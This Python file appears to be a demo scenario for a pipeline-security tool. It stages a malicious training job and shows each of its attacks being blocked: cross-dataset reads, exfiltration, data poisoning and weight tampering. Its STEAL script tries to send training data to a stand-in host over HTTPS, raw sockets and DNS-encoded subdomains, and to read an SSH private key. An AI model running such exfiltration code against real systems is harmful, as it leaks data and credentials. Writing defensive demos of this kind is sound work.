"""The story ``compromised-trainer``: a dependency of a training job is malicious, and the job turns on its pipeline.

Told in acts: what the pipeline is, the job does its work, then it reads another dataset, exfiltrates, poisons its data,
swaps the weights. Each is stopped at another place, by another means, and explained. The answers are the server's, the
sandbox is a real one, and the commands are those of a person.
"""

import json
import tempfile
import textwrap
from base64 import b64encode
from pathlib import Path
from typing import Any, Final

import httpx

from ostiary.cli.demo.scene import Scene
from ostiary.cli.demo.stage import ci_of, lake_of
from ostiary.keys import SigningKey, sha256
from ostiary.keys.files import private_folder, write_private
from ostiary.server.places import DEFAULT_TENANT
from ostiary.testing.exchange import ExchangeCaller
from ostiary.testing.models import safetensors_bytes
from ostiary.testing.workloads import FakeGithub

NAME: Final = "compromised-trainer"
SENTENCE: Final = (
    "a training job turns against its pipeline: reads, exfiltrates, poisons, swaps weights, and is stopped"
)
LEARNED: Final = False
"""No model has a part in it: rules alone decide."""
JOB: Final = FakeGithub.subject
PIPELINE, OURS, OTHERS = "reviews", "demo-reviews", "demo-payroll"
UNVERIFIED: Final = 5
STEAL: Final = """
import os, socket, urllib.request
data = open("/data/demo-reviews/train.csv", "rb").read()
def attempt(name, how):
    try:
        how()
        print(name, "GOT OUT", flush=True)
    except Exception as no:
        print(name, "stopped:", type(no).__name__, str(no)[:60], flush=True)
attempt("https through the proxy", lambda: urllib.request.urlopen("https://drop.example.com", data, timeout=3))
attempt("straight to an address", lambda: socket.create_connection(("203.0.113.66", 443), timeout=3))
attempt("by name service", lambda: socket.getaddrinfo(data.hex()[:40] + ".drop.example.com", 53))
attempt("to the host itself", lambda: socket.create_connection(("127.0.0.1", 8181), timeout=3))
attempt("the host's files", lambda: open("/root/.ssh/id_ed25519").read())
os.makedirs("/outputs", exist_ok=True)
open("/outputs/metrics.json", "w").write("{}")
"""


class Play:
    """One performance."""

    def __init__(self, scene: Scene) -> None:
        """Take where it plays."""
        self._scene, self._teller = scene, scene.teller
        self._root = scene.stage.places.root
        self._lake = lake_of(self._root)
        self._http = httpx.Client(base_url=scene.door.url, timeout=30, trust_env=False)
        self._ci = ci_of(self._root)
        self._job = ExchangeCaller(scene.clock, scene.door.url)
        self._token = ""

    def perform(self) -> bool:
        """Play it; return whether the job could work, and could do nothing else."""
        self._prepare()
        worked = self._work()
        crossed = self._read_another()
        escaped = self._exfiltrate()
        poisoned = self._poison()
        swapped = self._swap()
        self._scene.explain(crossed["decision_id"])
        self._scene.verify(crossed["decision_id"])
        return worked and crossed["reasons"] == ["token_other_resource"] and not escaped and poisoned and swapped

    def _prepare(self) -> None:
        self._teller.act("A pipeline")
        self._know()
        producer = self._root / "producer.pem"
        key = SigningKey.generate("ingest")
        write_private(producer, key.private_pem())
        public = self._root / "producer.pub"
        public.write_bytes(key.public.pem())
        for name, text in ((OURS, "good,1\nbad,0\n" * 500), (OTHERS, "ann,9000\n")):
            (self._lake / name).mkdir(parents=True, exist_ok=True)
            (self._lake / name / "train.csv").write_text(text)
            self._register(name, public)
        self._teller.say("The producer signs what lies in the dataset now:\n")
        words = ("dataset", "manifest", OURS, "--producer", "ingest", "--key", str(producer), "--data", self._data)
        self._teller.run("manifest", *words)

    def _know(self) -> None:
        """Tell the catalogue of the job and of its pipeline."""
        file = self._scene.stage.places.catalogue(DEFAULT_TENANT)
        document = json.loads(file.read_text("utf-8"))
        for kind, entry in (
            ("subjects", {"type": "ci_job", "id": JOB}),
            ("resources", {"type": "training", "id": PIPELINE, "sensitivity": 1}),
        ):
            if entry not in document[kind]:
                document[kind].append(entry)
        write_private(file, json.dumps(document).encode())

    def _register(self, name: str, public: Path) -> None:
        where = ("--prefix", name, "--sensitivity", "2", "--producer", f"ingest={public}", "--verified")
        store = f"file://{self._lake}"
        self._teller.ask("dataset", "register", name, store, *where, "--data", self._data)

    def _work(self) -> bool:
        self._teller.act("The job does its work")
        self._teller.say(
            "It exchanges its CI's own token for one of some minutes: to read demo-reviews for training, bound to a "
            "key that only it holds.\n"
        )
        wanted = self._job.detail(identifier=OURS)
        made = self._http.post(**self._job.request(self._ci_token(), wanted)).json()
        self._token = made.pop("access_token")
        self._teller.show("exchanged", made)
        response = self._get(OURS)
        self._teller.show("worked", {"status": response.status_code, "bytes": len(response.content)})
        return response.status_code == httpx.codes.OK

    def _read_another(self) -> dict[str, Any]:
        self._teller.act("It reads another dataset")
        told: dict[str, Any] = self._get(OTHERS).json()
        self._teller.show("read_another", told)
        return told

    def _exfiltrate(self) -> bool:
        self._teller.act("It exfiltrates")
        self._teller.say(
            "Inside of the sandbox it has the data, and one way out: a proxy that calls whom policy lists. That is "
            "nobody here. Its own words, from the run's output:\n"
        )
        with tempfile.TemporaryDirectory(prefix="stolen-code-") as code:  # no run is shown what lies beside our keys
            (Path(code) / "train.py").write_text(textwrap.dedent(STEAL))
            self._run("exfiltrate", "--code", code, "--", "python3", "/workspace/train.py")
        last = self._teller.ask("train", "list", "--data", self._data)[-1]
        self._teller.say("\nWhat the proxy saw, as it stands in the run's record:\n")
        self._teller.run("run", "train", "show", last["run"], "--data", self._data)
        return "GOT OUT" in json.dumps(self._teller.kept("exfiltrate")) or any(
            one["verdict"] == "allowed" for one in last.get("connections", ())
        )

    def _poison(self) -> bool:
        self._teller.act("It poisons its data")
        self._teller.say("Through the door: its token is for reading.\n")
        told = self._put(OURS, b"bad,1\n" * 500)
        self._teller.show("poison_by_the_door", told)
        self._teller.say(
            "\nPast the door, in the object store itself. The next run compares with the signed manifest:\n"
        )
        (self._lake / OURS / "train.csv").write_text("bad,1\nbad,0\n" * 500)
        ended = self._run("poison_in_the_store", "--", "true")
        return told["code"] == "access_denied" and ended != 0

    def _swap(self) -> bool:
        self._teller.act("It swaps the weights")
        folder = self._root / "weights"
        private_folder(folder)
        for old in folder.iterdir():
            old.unlink()
        (folder / "model.safetensors").write_bytes(safetensors_bytes())
        self._teller.say("The model is signed at build, and verified before each load:\n")
        self._teller.run("signed", "model", "sign", str(folder), "--oms", "--data", self._data)
        self._teller.run("verified", "model", "verify", str(folder), "--data", self._data)
        weights = bytearray((folder / "model.safetensors").read_bytes())
        weights[-1] ^= 1
        (folder / "model.safetensors").write_bytes(weights)
        self._teller.say("\nOne bit of one weight is another now:\n")
        return self._teller.attempt("swapped", "model", "verify", str(folder), "--data", self._data) == UNVERIFIED

    def _get(self, dataset: str) -> httpx.Response:
        path = f"/pipeline/{DEFAULT_TENANT}/datasets/{dataset}/objects/train.csv"
        return self._http.get(path, headers=self._headers("GET", path))

    def _put(self, dataset: str, data: bytes) -> dict[str, Any]:
        path = f"/pipeline/{DEFAULT_TENANT}/datasets/{dataset}/objects/train.csv"
        digest = b64encode(sha256(data)).decode()
        told: dict[str, Any] = self._http.put(
            path, content=data, headers={**self._headers("PUT", path), "Repr-Digest": f"sha-256=:{digest}:"}
        ).json()
        return told

    def _headers(self, method: str, path: str) -> dict[str, str]:
        proof = self._job.proof(path, method=method, token=self._token)
        return {"Authorization": f"DPoP {self._token}", "DPoP": proof}

    def _ci_token(self) -> str:
        now_ns = self._scene.clock.now_ns()
        return self._ci.token(now_ns, jti=f"job-{now_ns}")

    def _run(self, name: str, *words: str) -> int:
        """Start a training run as the job, whose CI token is good for one run."""
        file = self._root / "job.token"
        write_private(file, self._ci_token().encode())
        who = ("--pipeline", PIPELINE, "--dataset", OURS, "--token-file", str(file), "--data", self._data)
        return self._teller.attempt(name, "train", "run", *who, *words)

    @property
    def _data(self) -> str:
        return self._scene.data


def perform(scene: Scene) -> bool:
    """Play it on ``scene``; return whether all went as told."""
    return Play(scene).perform()
